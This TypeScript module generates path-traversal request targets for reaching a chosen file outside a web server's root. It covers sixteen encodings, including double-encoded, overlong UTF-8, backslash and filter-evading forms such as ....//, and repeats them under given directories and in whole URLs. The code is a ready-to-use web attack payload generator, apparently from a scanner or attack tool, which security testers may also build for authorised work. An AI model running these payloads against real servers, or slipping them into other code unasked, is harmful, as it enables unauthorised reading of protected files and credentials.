/** Ways to write a path that climbs out of a root and down to one file: all that servers have been seen to decode. Pure. */

export interface Climb {
  /** In words. */
  readonly form: string;
  /** What stands in the request line; `authority` for the form with a whole URL. */
  target(authority: string): string;
}

/** More than any root is deep: the root of the disk has no parent, so too many do no harm. */
const STEPS = 12;

/** `path`: absolute, of the file. `directories`: of the server, without a slash at the end; each gets the plainest forms. */
export function climbs(path: string, directories: readonly string[]): readonly Climb[] {
  const down = path.replace(/^\//, '');
  const climb = ({ form, up, slash = '/' }: Form, below: string): Climb => ({
    form: `${form}${below === '' ? '' : ` below ${below}`}`,
    target: () => `${below}/${up.repeat(STEPS)}${slash === '/' ? down : down.replaceAll('/', slash)}`,
  });
  return [
    { form: 'its own absolute path', target: () => path },
    { form: 'its own absolute path after a second slash', target: () => `/${path}` },
    { form: 'its own absolute path, encoded', target: () => `/${path.replaceAll('/', '%2f')}` },
    ...FORMS.map((form) => climb(form, '')),
    {
      form: '../ in a whole URL',
      target: (authority) => `http://${authority}/${'../'.repeat(STEPS)}${down}`,
    },
    ...directories.flatMap((directory) => FORMS.slice(0, BELOW).map((form) => climb(form, directory))),
    // Where a prefix is cut off and the rest put behind a directory.
    ...directories.flatMap((directory) =>
      ['../', '..%2f', '%2e%2e/'].map((up) => ({
        form: `${up} right after ${directory}`,
        target: () => `${directory}${up.repeat(STEPS)}${down}`,
      })),
    ),
  ];
}

interface Form {
  readonly form: string;
  readonly up: string;
  /** Between the parts of the way down. */
  readonly slash?: string;
}

/** So many of them are tried below directories too. */
const BELOW = 4;

const FORMS: readonly Form[] = [
  { form: '../', up: '../' },
  { form: '%2e%2e/', up: '%2e%2e/' },
  { form: '..%2f', up: '..%2f', slash: '%2f' },
  { form: '..%5c', up: '..%5c' },
  { form: '%2e%2e%2f', up: '%2e%2e%2f', slash: '%2f' },
  { form: '.%2e/', up: '.%2e/' },
  { form: '..\\', up: '..\\' },
  { form: '%252e%252e%252f (encoded twice)', up: '%252e%252e%252f', slash: '%252f' },
  { form: '..%252f (encoded twice)', up: '..%252f', slash: '%252f' },
  { form: '....// (for those who take ../ out once)', up: '....//' },
  { form: '..././ (for those who take ../ out once)', up: '..././' },
  { form: '..;/', up: '..;/' },
  { form: '%c0%ae%c0%ae/ (overlong bytes)', up: '%c0%ae%c0%ae/' },
  { form: '..%c0%af (overlong bytes)', up: '..%c0%af', slash: '%c0%af' },
  { form: '%2e%2e%5c', up: '%2e%2e%5c' },
  { form: './/..//', up: './/..//' },
];
